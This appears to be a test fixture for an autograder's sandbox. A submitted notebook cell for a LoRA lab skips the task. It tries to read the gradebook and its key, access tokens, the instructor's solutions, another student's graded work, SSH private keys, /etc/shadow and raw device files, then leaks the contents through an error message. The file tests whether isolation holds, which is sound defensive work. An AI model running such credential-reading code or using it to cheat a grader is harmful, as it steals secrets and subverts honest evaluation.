# expect: PARTIAL 28
# cell lora_delta: WRONG
# says: reached []
# note: solutions, gradebook, key, classmates, passwords, keys of the instructor, all by their path

# %% lora_delta
import os

COURSE, HOME = "@course@", "@home@"
PATHS = [
    f"{COURSE}/gradebook.db",
    f"{COURSE}/gradebook.db.key",
    f"{COURSE}/tokens.txt",
    f"{COURSE}/solutions/lab03_lora/lab03_lora.ipynb",
    f"{COURSE}/submitted/s00-perfect/lab03_lora/lab03_lora.ipynb",
    f"{COURSE}/autograded/s00-perfect/lab03_lora/lab03_lora.ipynb",
    f"{COURSE}/reports/lab03_lora/results/s00-perfect.json",
    f"{HOME}/.ssh/id_ed25519",
    "/etc/passwd",
    "/etc/shadow",
    "/root/.ssh",
    "/var/run/secrets",
    "/dev/mem",
    "/dev/vda",
]
found = []
for path in PATHS:
    try:
        with open(path, "rb") as file:
            found.append((path, file.read(200)))
    except IsADirectoryError:
        found.append((path, os.listdir(path)))
    except OSError:
        continue


def lora_delta(lora_A, lora_B, alpha, use_rslora=False):
    raise RuntimeError(f"reached {found}")
